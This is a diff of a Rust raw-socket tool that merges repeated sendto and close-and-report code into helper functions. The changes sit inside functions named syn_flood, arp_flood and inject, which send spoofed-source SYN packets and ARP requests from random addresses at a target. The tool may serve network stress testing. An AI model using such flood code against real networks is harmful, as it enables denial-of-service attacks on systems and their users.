@@ -30,6 +30,34 @@ pub fn parse_sources(s: &str) -> anyhow::Result<(Ipv4Addr, u8)> {
     Ok((addr, len))
 }
 
+/// sendto(2) of `buf` to the socket address `to` (a `sockaddr_in` or `sockaddr_ll`);
+/// true when it was sent.
+fn send_to<A>(fd: i32, buf: &[u8], to: &A) -> bool {
+    let len = std::mem::size_of::<A>() as libc::socklen_t;
+    // SAFETY: `buf` is valid for its length and `to` for `len` bytes.
+    unsafe {
+        libc::sendto(
+            fd,
+            buf.as_ptr().cast(),
+            buf.len(),
+            0,
+            (to as *const A).cast(),
+            len,
+        ) >= 0
+    }
+}
+
+/// Closes `fd` and prints the run's JSON line (sent, seconds, rate).
+fn finish(fd: i32, sent: u64, start: Instant) {
+    // SAFETY: closing a descriptor the caller opened, once.
+    unsafe { libc::close(fd) };
+    let secs = start.elapsed().as_secs_f64();
+    println!(
+        "{}",
+        serde_json::json!({"sent": sent, "seconds": secs, "rate": sent as f64 / secs})
+    );
+}
+
 /// One SYN (IPv4 header + 20-byte TCP header, checksums filled in).
 fn syn_packet(src: SocketAddrV4, dst: SocketAddrV4, seq: u32) -> [u8; 40] {
     let mut p = [0u8; 40];
@@ -116,29 +144,10 @@ pub fn syn_flood(dst: SocketAddrV4, sources: &str, rate: u64, seconds: f64) -> a
             };
             let src = SocketAddrV4::new(Ipv4Addr::from(base | host), rng.random_range(1024..65535));
             let p = syn_packet(src, dst, rng.random());
-            // SAFETY: `p` and `to` are valid for the call; the lengths are theirs.
-            let n = unsafe {
-                libc::sendto(
-                    fd,
-                    p.as_ptr().cast(),
-                    p.len(),
-                    0,
-                    (&to as *const libc::sockaddr_in).cast(),
-                    std::mem::size_of::<libc::sockaddr_in>() as libc::socklen_t,
-                )
-            };
-            if n >= 0 {
-                sent += 1;
-            }
+            sent += u64::from(send_to(fd, &p, &to));
         }
     }
-    // SAFETY: closing the descriptor opened above, once.
-    unsafe { libc::close(fd) };
-    let secs = start.elapsed().as_secs_f64();
-    println!(
-        "{}",
-        serde_json::json!({"sent": sent, "seconds": secs, "rate": sent as f64 / secs})
-    );
+    finish(fd, sent, start);
     Ok(())
 }
 
@@ -192,28 +201,9 @@ pub fn arp_flood(iface: &str, target: Ipv4Addr, sources: &str, count: u64) -> an
         let mut mac: [u8; 6] = rng.random();
         mac[0] = (mac[0] & 0xfe) | 0x02;
         let f = arp_request(mac, Ipv4Addr::from(base | host), target);
-        // SAFETY: `f` and `to` are valid for the call; the lengths are theirs.
-        let n = unsafe {
-            libc::sendto(
-                fd,
-                f.as_ptr().cast(),
-                f.len(),
-                0,
-                (&to as *const libc::sockaddr_ll).cast(),
-                std::mem::size_of::<libc::sockaddr_ll>() as libc::socklen_t,
-            )
-        };
-        if n >= 0 {
-            sent += 1;
-        }
+        sent += u64::from(send_to(fd, &f, &to));
     }
-    // SAFETY: closing the descriptor opened above, once.
-    unsafe { libc::close(fd) };
-    let secs = start.elapsed().as_secs_f64();
-    println!(
-        "{}",
-        serde_json::json!({"sent": sent, "seconds": secs, "rate": sent as f64 / secs})
-    );
+    finish(fd, sent, start);
     Ok(())
 }
 
@@ -353,20 +343,7 @@ pub fn inject(iface: &str, dst: SocketAddrV4, count: u64, rate: u64) -> anyhow::
                 100,
             ),
         };
-        // SAFETY: `f` and `at` are valid for the call; the lengths are theirs.
-        let n = unsafe {
-            libc::sendto(
-                fd,
-                f.as_ptr().cast(),
-                f.len(),
-                0,
-                (&at as *const libc::sockaddr_ll).cast(),
-                len,
-            )
-        };
-        if n >= 0 {
-            sent += 1;
-        }
+        sent += u64::from(send_to(fd, &f, &at));
     }
     // SAFETY: closing the descriptor opened above, once.
     unsafe { libc::close(fd) };
